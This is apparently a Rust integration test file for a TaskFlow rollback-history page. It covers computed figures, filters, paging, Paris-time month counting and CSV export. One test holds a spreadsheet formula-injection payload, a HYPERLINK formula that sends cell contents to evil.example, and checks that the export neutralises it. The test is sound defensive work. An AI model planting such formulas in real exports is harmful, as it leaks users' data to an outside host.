//! The rollback history and its figures (§11.2), on a seeded history of 30 incidents whose
//! numbers are worked out here by hand; filters; the CSV export.
use crate::helpers::*;
use chrono::{DateTime, Duration, TimeZone, Utc};

const KINDS: [&str; 3] = ["application", "application_database", "system"];

/// Incident `i` (0 to 29): kind `KINDS[i % 3]`, detected 2025-09-01 10:00 UTC + 3 i days,
/// decided 5 + 2 i minutes later, restored 3 + 2 i minutes after that — except i = 9, 19, 29,
/// still executing. Odd ones on environment B. Returns the two environments.
pub(crate) async fn seed(app: &TestApp) -> (uuid::Uuid, uuid::Uuid) {
    let a = app.create_environment("TaskFlow production").await;
    let b = app.create_environment("TaskFlow préprod").await;
    let user = app
        .create_user("claire@taskflow.example", "Claire Dubois", &["tech_lead"])
        .await;
    for i in 0..30i64 {
        let detected = detected(i);
        let decided = detected + Duration::minutes(5 + 2 * i);
        let restored = (i % 10 != 9).then(|| decided + Duration::minutes(3 + 2 * i));
        let title = if i == 0 {
            "Facturation \"v1.2.0\", échec; à revoir".to_owned()
        } else {
            format!("Incident n° {i}")
        };
        sqlx::query(
            "INSERT INTO incidents (title, detected_at, severity, environment_id, created_by, state,
                                    decision, rollback_type, decision_reason, decided_at, decided_by,
                                    restored_at)
             VALUES ($1, $2, 'critical', $3, $4, $5, 'rollback', $6, 'r', $7, $4, $8)",
        )
        .bind(&title)
        .bind(detected)
        .bind(if i % 2 == 1 { b } else { a })
        .bind(user)
        .bind(if restored.is_some() { "resolved" } else { "executing" })
        .bind(KINDS[(i % 3) as usize])
        .bind(decided)
        .bind(restored)
        .execute(&app.pool)
        .await
        .unwrap();
    }
    (a, b)
}

fn detected(i: i64) -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2025, 9, 1, 10, 0, 0).unwrap() + Duration::days(3 * i)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_figures_of_thirty_rollbacks() {
    let app = spawn_app(test_database().await).await;
    let (_, b) = seed(&app).await;
    let browser = app
        .signed_in_browser("qa@taskflow.example", "Quentin QA", &["qa"])
        .await;
    let (status, html) = browser.page(&app, "/history").await;
    assert_eq!(status, 200);

    // By hand: deciding takes 5 + 2i minutes, within 30 for i ≤ 12: 13 of 30.
    assert!(
        html.contains("Décidés dans les 30 minutes (§2.2) : 13/30"),
        "{html}"
    );
    // Restores (27): decision → restore is 3 + 2i; the estimate is 10, 30 or 60 by kind.
    let (mut restored, mut within, mut downtime) = (0, 0, 0i64);
    for i in 0..30i64 {
        if i % 10 == 9 {
            continue;
        }
        restored += 1;
        let limit = [10, 30, 60][(i % 3) as usize];
        if 3 + 2 * i <= limit {
            within += 1;
        }
        downtime += (5 + 2 * i) + (3 + 2 * i);
    }
    assert_eq!(
        (restored, within),
        (27, 16),
        "by kind: 0, 3 | 1, 4, 7, 10, 13 | 2, 5, 8, …, 26"
    );
    assert!(
        html.contains(&format!(
            "Restaurés dans l'estimation du §3 : {within}/{restored}"
        )),
        "{html}"
    );
    let mttr = downtime as f64 / restored as f64;
    assert!(
        html.contains(&format!("{mttr:.1} min")),
        "MTTR {mttr:.1}: {html}"
    );
    // Per month, in Paris time: September i = 0..9, October i = 10..20, November i = 21..29.
    for month in ["2025-09", "2025-10", "2025-11"] {
        assert!(
            html.contains(&format!(">{month}</text>")),
            "{month}: {html}"
        );
    }
    let months = &html[html.find("id=\"chart-months\"").unwrap()..];
    let months = &months[..months.find("</svg>").unwrap()];
    // Each month holds all three kinds: 3 stacked rectangles each.
    assert_eq!(months.matches("<rect").count(), 9, "{months}");
    let decide = &html[html.find("id=\"chart-decide\"").unwrap()..];
    let decide = &decide[..decide.find("</svg>").unwrap()];
    assert_eq!(decide.matches("class=\"bar ok\"").count(), 13);
    assert_eq!(decide.matches("class=\"bar late\"").count(), 17);
    assert_eq!(html.matches("<tr id=\"rollback-").count(), 30);

    // Filters: environment B (odd i), a kind, a period (Paris dates).
    let (_, html) = browser
        .page(&app, &format!("/history?environment={b}"))
        .await;
    assert_eq!(html.matches("<tr id=\"rollback-").count(), 15);
    let (_, html) = browser.page(&app, "/history?kind=system").await;
    assert_eq!(html.matches("<tr id=\"rollback-").count(), 10);
    let (_, html) = browser
        .page(&app, "/history?from=2025-10-01&to=2025-10-31")
        .await;
    assert_eq!(html.matches("<tr id=\"rollback-").count(), 11);
    let (_, html) = browser
        .page(&app, "/history?kind=nonsense&from=never")
        .await;
    assert_eq!(
        html.matches("<tr id=\"rollback-").count(),
        30,
        "bad filters are ignored"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_csv_export_reads_as_the_table_shows_it() {
    let app = spawn_app(test_database().await).await;
    seed(&app).await;
    let browser = app
        .signed_in_browser("qa@taskflow.example", "Quentin QA", &["qa"])
        .await;
    let (_, html) = browser.page(&app, "/history?kind=application").await;
    let link = html
        .split("id=\"export-csv\"")
        .next()
        .and_then(|before| before.rsplit("href=\"").next())
        .unwrap()
        .split('"')
        .next()
        .unwrap()
        .replace("&amp;", "&");
    assert!(link.starts_with("/history/rollbacks.csv?"), "{link}");
    let res = browser.get(&app, &link).await;
    assert_eq!(res.status(), 200);
    assert!(res.headers()["content-type"]
        .to_str()
        .unwrap()
        .starts_with("text/csv"));
    let bytes = res.bytes().await.unwrap();
    assert_eq!(&bytes[..3], b"\xEF\xBB\xBF", "a BOM for spreadsheets");
    let mut reader = csv::Reader::from_reader(&bytes[3..]);
    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    assert_eq!(header[1], "Titre");
    assert_eq!(header[8], "Détection → décision (min)");
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
    assert_eq!(rows.len(), 10, "the filter applies");
    // Newest first, like the table; the oldest is incident 1 (i = 0), quotes and accents whole.
    let last = rows.last().unwrap();
    assert_eq!(&last[0], "1");
    assert_eq!(&last[1], "Facturation \"v1.2.0\", échec; à revoir");
    assert_eq!(&last[2], "TaskFlow production");
    assert_eq!(&last[3], "Rollback applicatif (sans base de données)");
    assert_eq!(&last[7], "01/09/2025 12:00", "Paris time, as on the page");
    assert_eq!((&last[8], &last[9], &last[10]), ("5", "3", "8"));
    assert!(
        html.contains("Facturation \"v1.2.0\", échec; à revoir"),
        "the table shows the same title"
    );
    assert!(html.contains("01/09/2025 12:00"), "{html}");
}

/// Issue 15 §4: a title (or any field) a spreadsheet would evaluate is written as text.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_formula_typed_in_a_field_is_plain_text_in_the_csv() {
    let app = spawn_app(test_database().await).await;
    seed(&app).await;
    let formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Détails\")";
    for (id, title) in [
        (1, formula),
        (2, "@SUM(1+1)"),
        (3, "+33 6 12"),
        (4, "\tTAB"),
    ] {
        sqlx::query("UPDATE incidents SET title = $2 WHERE id = $1")
            .bind(id as i64)
            .bind(title)
            .execute(&app.pool)
            .await
            .unwrap();
    }
    let browser = app
        .signed_in_browser("qa@taskflow.example", "Quentin QA", &["qa"])
        .await;
    let res = browser.get(&app, "/history/rollbacks.csv").await;
    assert_eq!(res.status(), 200);
    let bytes = res.bytes().await.unwrap();
    let mut reader = csv::Reader::from_reader(&bytes[3..]);
    let titles: std::collections::HashMap<String, String> = reader
        .records()
        .map(|r| r.unwrap())
        .map(|r| (r[0].to_owned(), r[1].to_owned()))
        .collect();
    assert_eq!(titles["1"], format!("'{formula}"));
    assert_eq!(titles["2"], "'@SUM(1+1)");
    assert_eq!(titles["3"], "'+33 6 12");
    assert_eq!(titles["4"], "'\tTAB");
    assert!(
        titles
            .values()
            .all(|t| !t.starts_with(['=', '+', '-', '@', '\t', '\r'])),
        "{titles:?}"
    );
}

/// The figures computed in the database: months counted in the reader's zone (31 October
/// 23:30 UTC is 1 November in Paris), minutes to decide and to restore against §2.2 and §3,
/// and the MTTR, over the whole filtered period.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn figures_count_months_in_the_readers_zone() {
    use app::backend::history::{figures, HistoryFilter};
    let app = spawn_app(test_database().await).await;
    let env = app.create_environment("TaskFlow production").await;
    let user = app
        .create_user("claire@taskflow.example", "Claire Dubois", &["tech_lead"])
        .await;
    let at = |d, h, m| Utc.with_ymd_and_hms(2025, 10, d, h, m, 0).unwrap();
    let late = at(31, 23, 30);
    for (kind, detected, decided, restored) in [
        // The procedure's scenario: 14:22, decided 14:25, restored 14:30 (Paris).
        (
            "application",
            at(17, 12, 22),
            Some(at(17, 12, 25)),
            Some(at(17, 12, 30)),
        ),
        // 40 minutes to decide, 35 to restore a database (over its 30).
        (
            "application_database",
            late,
            Some(late + Duration::minutes(40)),
            Some(late + Duration::minutes(75)),
        ),
        ("system", at(20, 9, 0), None, None),
    ] {
        sqlx::query(
            "INSERT INTO incidents (title, detected_at, severity, environment_id, created_by, state,
                                    decision, rollback_type, decision_reason, decided_at, decided_by,
                                    restored_at)
             VALUES ('i', $1, 'critical', $2, $3, 'resolved', 'rollback', $4, 'r', $5, $3, $6)",
        )
        .bind(detected)
        .bind(env)
        .bind(user)
        .bind(kind)
        .bind(decided)
        .bind(restored)
        .execute(&app.pool)
        .await
        .unwrap();
    }
    let f = figures(&app.pool, &HistoryFilter::default(), "Europe/Paris")
        .await
        .unwrap();
    assert_eq!(
        f.per_month,
        vec![
            ("2025-10".to_owned(), [1, 0, 1]),
            ("2025-11".to_owned(), [0, 1, 0])
        ]
    );
    assert_eq!((f.decided, f.decided_in_time), (2, 1));
    assert_eq!(f.restored, [1, 1, 0]);
    assert_eq!(f.restored_in_estimate, [1, 0, 0]);
    assert_eq!(f.mean_time_to_restore, Some((8.0 + 75.0) / 2.0));
    // In UTC the late one is still October.
    let utc = figures(&app.pool, &HistoryFilter::default(), "UTC")
        .await
        .unwrap();
    assert_eq!(utc.per_month, vec![("2025-10".to_owned(), [1, 1, 1])]);
}

/// Issue 17 §1: the History page costs one page of rows — 50 a page, the filters kept across
/// pages, the figures over the whole filtered period — and the CSV export still holds all.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_history_is_paged_and_its_figures_cover_the_period() {
    let app = spawn_app(test_database().await).await;
    let env = app.create_environment("TaskFlow production").await;
    let user = app
        .create_user("claire@taskflow.example", "Claire Dubois", &["tech_lead"])
        .await;
    sqlx::query(
        "INSERT INTO incidents (title, detected_at, severity, environment_id, created_by, state,
                                decision, rollback_type, decision_reason, decided_at, decided_by,
                                restored_at)
         SELECT 'Incident ' || n, timestamptz '2025-01-01 10:00Z' + n * interval '1 day',
                'critical', $1, $2, 'resolved', 'rollback', 'application', 'r',
                timestamptz '2025-01-01 10:05Z' + n * interval '1 day', $2,
                timestamptz '2025-01-01 10:10Z' + n * interval '1 day'
         FROM generate_series(1, 120) AS n",
    )
    .bind(env)
    .bind(user)
    .execute(&app.pool)
    .await
    .unwrap();
    let browser = app
        .signed_in_browser("qa@taskflow.example", "Quentin QA", &["qa"])
        .await;
    let query = format!("environment={env}&kind=application&from=&to=");
    let (_, first) = browser.page(&app, &format!("/history?{query}")).await;
    assert_eq!(first.matches("<tr id=\"rollback-").count(), 50);
    assert!(first.contains("Incident 120<"), "newest first");
    assert!(first.contains("Décidés dans les 30 minutes (§2.2) : 120/120"));
    let next = format!(
        "href=\"/history?{}&amp;page=2\"",
        query.replace('&', "&amp;")
    );
    assert!(first.contains(&next), "the filters kept across pages");
    let (_, third) = browser
        .page(&app, &format!("/history?{query}&page=3"))
        .await;
    assert_eq!(third.matches("<tr id=\"rollback-").count(), 20);
    assert!(third.contains("Incident 1<"));
    assert!(!third.contains("id=\"history-next\""), "the last page");
    assert!(
        third.contains("120/120"),
        "figures of the whole period on every page"
    );
    let (status, _) = browser.page(&app, "/history?page=999999999999").await;
    assert_eq!(status, 200, "a page out of range is no error");

    let res = browser
        .client
        .get(app.url(&format!("/history/rollbacks.csv?{query}")))
        .send()
        .await
        .unwrap();
    let csv = res.text().await.unwrap();
    assert_eq!(csv.lines().count(), 121, "the header and every rollback");
}
